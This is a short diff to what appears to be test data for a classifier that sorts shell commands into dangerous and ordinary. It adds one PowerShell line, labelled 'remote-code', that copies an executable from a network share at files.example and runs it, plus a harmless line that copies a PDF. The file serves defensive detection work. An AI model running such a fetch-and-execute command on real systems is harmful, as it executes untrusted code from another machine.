@@ -4725,6 +4725,10 @@ DANGEROUS += [
 ]
 ORDINARY += [("PowerShell", _ps(r'reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AeDebug"'))]
 
+# A program copied from another machine's share, then run (S-RULE-174).
+DANGEROUS += [("PowerShell", _ps(r"Copy-Item \\files.example\drop\x.exe C:\t\; & C:\t\x.exe"), "remote-code")]
+ORDINARY += [("PowerShell", _ps(r"Copy-Item \\files.example\drop\report.pdf C:\t"))]
+
 CATEGORY_OF: dict[str, str] = {
     "recursive-delete": "destruction",
     "wildcard-delete": "destruction",
